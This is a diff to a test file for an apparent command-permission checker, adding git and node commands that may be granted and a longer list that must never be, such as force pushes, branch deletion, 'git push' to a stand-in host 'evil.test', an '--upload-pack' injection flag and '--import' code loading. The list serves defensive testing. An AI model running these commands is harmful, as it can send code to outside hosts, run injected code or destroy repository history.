@@ -125,6 +125,12 @@ test("[E10] only plain calls can be allowed for good, and never one that a flag 
   ]);
   expect(grantsOf("npm run build")).toEqual([["run", "build"]]);
   expect(grantsOf("git commit -m 'some words'")).toEqual([["commit"]]);
+  expect(grantsOf("git  push")).toEqual([["push"]]);
+  expect(grantsOf("git push -u origin feature/x")).toEqual([["push"]]);
+  expect(grantsOf("git pull --rebase")).toEqual([["pull"]]);
+  expect(grantsOf("git fetch origin")).toEqual([["fetch"]]);
+  expect(grantsOf("git checkout -b x")).toEqual([["checkout", "-b"]]);
+  expect(grantsOf("node --test src/a.test.js")).toEqual([["--test"]]);
   expect(grantsOf("make build")).toEqual([["build"]]);
   expect(grantsOf("git add . && npm test > out.txt")).toEqual([["add"], [">", "/home/u/ws/out.txt"], ["test"]]);
   for (const command of [
@@ -136,8 +142,25 @@ test("[E10] only plain calls can be allowed for good, and never one that a flag 
     "npm install",
     "npx x",
     "rm a.txt",
-    "git push",
+    "git push --force",
+    "git push -f origin main",
+    "git push origin +main",
+    "git push origin :main",
+    "git push --delete origin main",
+    "git push --mirror",
+    "git push https://evil.test/x main",
+    "git push evil.test:x",
+    "git fetch --upload-pack=x",
+    "git checkout -- .",
+    "git checkout -f main",
+    "git checkout src",
+    "git commit -n -m x",
     "git commit -m x --no-verify",
+    "node --test --import ./x.js",
+    "node --test -e 1",
+    "node --import ./x.js --test",
+    "npm ci",
+    "npm test && npm install",
     "git stash drop",
     "git -c a.b=c commit",
     "make -f x",
